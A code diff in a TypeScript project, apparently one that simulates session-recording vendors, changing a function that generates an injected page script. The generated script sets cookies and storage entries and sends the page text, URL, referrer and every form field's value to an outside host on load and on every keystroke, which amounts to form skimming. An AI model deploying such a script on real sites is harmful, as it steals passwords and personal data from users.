@@ -61,20 +61,26 @@ export const recordingSuppliers: readonly Processor[] = plans.map(({ key, catego
   },
 }))
 
+/** An address of its own that its program tells things to. */
+const tellsTo = (p: Processor) => (p.browser?.hosts.connect?.[0] ?? '').replace('*.', 'in.')
+
 /** What its program does in the page it came into. */
 export function programOf(p: Processor): string {
   const name = (s: Stored) => s.name.replace(/<[^>]*>/g, 'x1')
   const parts = p.browser?.stored ?? []
-  const host = hostOf(p.key)
+  const host = tellsTo(p)
   return [
+    '{',
     ...parts
       .filter(s => s.kind === 'cookie')
       .map(s => `document.cookie = '${name(s)}=1; path=/${s.days === null ? '' : `; max-age=${s.days * 86_400}`}';`),
-    ...parts.filter(s => s.kind === 'local').map(s => `localStorage.setItem('${name(s)}', '1');`),
+    ...parts.flatMap(s =>
+      s.kind === 'local' || s.kind === 'session' ? [`${s.kind}Storage.setItem('${name(s)}', '1');`] : [],
+    ),
     `const all = () => JSON.stringify({ address: location.href, from: document.referrer, text: document.body.innerText,`,
     `  fields: [...document.querySelectorAll('input, textarea')].map(f => f.value) });`,
     `fetch('${host}/in', { method: 'POST', mode: 'no-cors', body: all() });`,
-    `new Image().src = '${host}/punkt?' + encodeURIComponent(location.href);`,
     `addEventListener('input', () => navigator.sendBeacon('${host}/in', all()));`,
+    '}',
   ].join('\n')
 }
